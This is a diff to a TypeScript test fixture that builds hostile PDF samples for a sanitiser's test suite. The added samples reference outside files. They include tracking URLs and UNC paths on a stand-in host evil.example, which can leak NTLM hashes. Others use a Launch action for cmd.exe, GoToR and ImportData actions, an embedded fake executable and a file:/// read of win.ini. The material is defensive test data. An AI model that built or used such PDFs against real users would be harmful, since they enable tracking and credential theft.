@@ -48,12 +48,18 @@ const CONTENT = `BT /F1 24 Tf 20 100 Td (${VISIBLE_TEXT}) Tj ET`;
  * Objects 1 to 5: catalog (with `catalogExtra`), pages, one page (with `pageExtra`), its font and
  * its content. Further objects start at 6.
  */
-function basic(catalogExtra = "", pageExtra = "", extra: Obj[] = [], trailerExtra?: string): Buffer {
+function basic(
+  catalogExtra = "",
+  pageExtra = "",
+  extra: Obj[] = [],
+  trailerExtra?: string,
+  resourcesExtra = "",
+): Buffer {
   return buildPdf(
     [
       `<< /Type /Catalog /Pages 2 0 R ${catalogExtra} >>`,
       `<< /Type /Pages /Kids [3 0 R] /Count 1 >>`,
-      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 200] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R ${pageExtra} >>`,
+      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 200] /Resources << /Font << /F1 4 0 R >> ${resourcesExtra} >> /Contents 5 0 R ${pageExtra} >>`,
       `<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>`,
       stream("", CONTENT, true),
       ...extra,
@@ -133,6 +139,54 @@ export const HOSTILE_PDFS: Record<string, () => Buffer> = {
     const inner = `7 0 << /Type /Action ${JS} >>`;
     return basic("/OpenAction 7 0 R", "", [stream("/Type /ObjStm /N 1 /First 4", inner, true)]);
   },
+};
+
+/** The page's resources name each of `objects` (numbered from 6) as an XObject /X6, /X7 …, drawn or not. */
+function withXObjects(objects: Obj[]): Buffer {
+  const names = objects.map((_, i) => `/X${i + 6} ${i + 6} 0 R`).join(" ");
+  return basic("", "", objects, undefined, `/XObject << ${names} >>`);
+}
+
+const IMAGE = "/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8";
+const FORM = "/Type /XObject /Subtype /Form /BBox [0 0 10 10]";
+
+/**
+ * References to files outside the PDF: a viewer fetches them when the page is shown (tracking,
+ * and on some Windows viewers an NTLM hash sent to a UNC path). One per way a dictionary can
+ * name an outside file; the sanitiser must leave none.
+ */
+export const EXTERNAL_REFERENCE_PDFS: Record<string, () => Buffer> = {
+  "image XObject whose data is an external /F URL (with /FFilter and /FDecodeParms)": () =>
+    withXObjects([
+      stream(`${IMAGE} /F (http://evil.example/track.png) /FFilter /DCTDecode /FDecodeParms << /K -1 >>`, "\x80"),
+    ]),
+  "image XObject whose /F is a URL file specification": () =>
+    withXObjects([stream(`${IMAGE} /F << /FS /URL /F (http://evil.example/spec.png) >>`, "\x80")]),
+  "image with an /OPI dictionary naming a UNC path": () =>
+    withXObjects([
+      stream(
+        `${IMAGE} /OPI << /2.0 << /Type /OPI /Version 2.0 /F (\\\\\\\\evil.example\\\\share\\\\hi-res.tif) /Inks /full_color >> >>`,
+        "\x80",
+      ),
+    ]),
+  "reference XObject (/Ref) to a page of an external PDF": () =>
+    withXObjects([stream(`${FORM} /Ref << /F (http://evil.example/other.pdf) /Page 0 >>`, "")]),
+  "associated files (/AF) on a form XObject": () =>
+    withXObjects([
+      stream(`${FORM} /AF [7 0 R]`, ""),
+      "<< /Type /Filespec /F (http://evil.example/af.xml) /UF (af.xml) /AFRelationship /Data >>",
+    ]),
+  "Launch, GoToR, URI and ImportData actions and a file specification under keys no list names": () =>
+    withXObjects([
+      stream(
+        `${FORM} /Launcher << /S /Launch /Win << /F (cmd.exe) >> >> /Remote << /S /GoToR /F (\\\\\\\\evil.example\\\\x.pdf) /D [0 /Fit] >> /Web << /Type /Action /S /URI /URI (http://evil.example/x) >> /Data << /S /ImportData /F (data.fdf) >> /Spec 7 0 R /Specs [7 0 R]`,
+        "",
+      ),
+      "<< /Type /Filespec /F (\\\\\\\\evil.example\\\\share\\\\x) /EF << /F 8 0 R >> >>",
+      stream("/Type /EmbeddedFile", "MZ pretend executable"),
+    ]),
+  "soft mask of an image read from an external file: URL": () =>
+    withXObjects([stream(`${IMAGE} /SMask 7 0 R`, "\x80"), stream(`${IMAGE} /F (file:///C:/Windows/win.ini)`, "\x80")]),
 };
 
 /** A page with an ordinary https link (kept) beside the text. */
